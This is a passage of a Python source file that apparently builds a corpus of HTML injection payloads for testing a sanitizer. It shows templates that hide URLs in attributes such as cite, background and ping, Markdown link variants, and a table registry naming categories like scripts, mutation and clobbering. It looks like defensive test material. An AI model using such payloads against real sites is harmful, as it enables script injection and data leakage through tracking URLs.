                "a change": '<ins cite="{0}">x</ins><del cite="{0}">x</del>',
                "a table": '<table background="{0}"><tr><td background="{0}">x</td></tr></table>',
                "other attributes": '<a href="https://e.example/" ping="{0}" title="{0}" lang="{0}">x</a>',
            }.items(),
        )
    },
    **{f"{name} in Markdown": f"[x](<{url}>)" for name, url in _HIDDEN_URLS.items()
       if "<" not in url},
}  # fmt: skip

TABLES: dict[str, Table] = {
    "scripts": SCRIPTS,
    "what starts by itself": SELF_STARTING,
    "what waits for a touch": TOUCHED,
    "out of an attribute": ATTRIBUTES,
    "addresses": URLS,
    "Markdown": MARKDOWN,
    "mutation": MUTATION,
    "clobbering": CLOBBERING,
    "styles": STYLES,
    "data": DATA,
}

ALL: tuple[str, ...] = tuple(dict.fromkeys(p for table in TABLES.values() for p in table.values()))
